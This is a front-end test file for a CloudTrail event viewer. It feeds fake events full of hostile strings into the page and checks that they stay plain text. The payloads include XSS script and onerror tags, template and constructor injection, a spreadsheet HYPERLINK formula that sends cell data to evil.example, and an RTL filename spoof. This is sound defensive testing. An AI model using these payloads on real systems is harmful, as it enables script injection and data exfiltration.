import { afterAll, beforeAll, expect, test } from "vitest";
import type { CloudTrailEvent } from "../../../src/core/events/event.js";
import { eventOf } from "./support/events.js";
import { PageLab } from "./support/openPage.js";
import { axe, rows, settled, unknownViolations } from "./support/read.js";
import { ScriptedArchive } from "./support/scriptedArchive.js";

let lab: PageLab;
beforeAll(async () => {
  lab = await PageLab.start();
});
afterAll(() => lab.stop());

/** An event that says the same in every field somebody can write. */
const everywhere = (id: string, text: string): CloudTrailEvent =>
  eventOf({
    eventID: id,
    eventName: text,
    eventSource: `${text}.amazonaws.com`,
    userIdentity: {
      type: "IAMUser",
      userName: text,
      principalId: text,
      arn: `arn:aws:iam::111122223333:user/${text}`,
      accountId: "111122223333",
      accessKeyId: text,
    },
    userAgent: text,
    sourceIPAddress: text,
    errorCode: text,
    errorMessage: text,
    requestParameters: { bucketName: text, [text.slice(0, 200)]: text, list: [text] },
    responseElements: { [`${text.slice(0, 100)}/x`]: text },
  });

const hostile = {
  html: `<img src=x onerror="window.pwned=1"><script>window.pwned=1</script><b>bold</b>`,
  template: "${alert(1)}{{constructor.constructor('window.pwned=1')()}}",
  formula: '=HYPERLINK("http://evil.example/?"&A1,"ok")',
  rtl: "\u202egpj.exe\u202c שלום עולם",
  control: "a\u0000b\u0007c\u001b[31md\r\ne",
  huge: "X".repeat(256_000),
  astral: "👩‍💻".repeat(200),
  prototype: "__proto__",
};

test("whatever an event says is text and nothing else, in rows, hovers, details, menus and the timeline", async () => {
  const events = Object.entries(hostile).map(([name, text]) => everywhere(name, text));
  const { page, errors, violations, close } = await lab.open({
    archive: new ScriptedArchive(events, ["eu-west-1"]),
    text: "last:7d",
  });
  await settled(page);
  expect(await rows(page).count()).toBe(events.length);
  for (let index = 0; index < events.length; index++) {
    const row = rows(page).nth(index);
    await row.locator(".ct-cell-event").click();
    await page.locator(".ct-sentence").waitFor();
    await row.locator(".ct-cell-event").hover();
    await row.locator(".ct-cell-event").click({ button: "right" });
    await page.getByRole("menu").waitFor();
    await page.keyboard.press("Escape");
  }
  await page.getByRole("combobox", { name: "Colour the bars by" }).click();
  await page.getByRole("option", { name: "Bars by who" }).click();
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
  expect(await page.locator("main img, main b, main script").count()).toBe(0);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
  expect(unknownViolations(violations)).toEqual([]);
  expect(errors).toEqual([]);
  expect(await axe(page)).toEqual([]);
  await close();
}, 180_000);

test("a field of 256 kB is cut until it is asked for whole", async () => {
  const { page, close } = await lab.open({
    archive: new ScriptedArchive([everywhere("huge", hostile.huge)], ["eu-west-1"]),
    text: "last:7d",
  });
  await settled(page);
  expect((await rows(page).first().innerText()).length).toBeLessThan(4_000);
  await rows(page).first().locator(".ct-cell-event").click();
  await page.locator(".ct-sentence").waitFor();
  expect((await page.locator("ct-detail").innerText()).length).toBeLessThan(20_000);
  const more = page.getByText(/^Show all/).first();
  await more.scrollIntoViewIfNeeded();
  await more.click();
  await page.getByText("Show less").first().waitFor();
  await close();
});

test("right-to-left and hidden characters are shown for what they are", async () => {
  const { page, close } = await lab.open({
    archive: new ScriptedArchive([everywhere("rtl", hostile.rtl)], ["eu-west-1"]),
    text: "last:7d",
  });
  await settled(page);
  const text = await rows(page).first().locator(".ct-cell-event").innerText();
  expect(text).toContain("\u27e8U+202E\u27e9");
  const cells = await rows(page)
    .first()
    .locator(".ct-cell")
    .evaluateAll((all) => all.map((cell) => cell.getBoundingClientRect().left));
  expect(cells).toEqual([...cells].sort((one, other) => one - other));
  await close();
});

test("a hostile query line is text too", async () => {
  const { page, close } = await lab.open({
    archive: new ScriptedArchive([]),
    text: 'user:"<img src=x onerror=window.pwned=1>" last:7d',
  });
  await settled(page);
  await page.getByRole("heading", { name: "No events found" }).waitFor();
  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
  expect(await page.locator("main img").count()).toBe(0);
  await close();
});
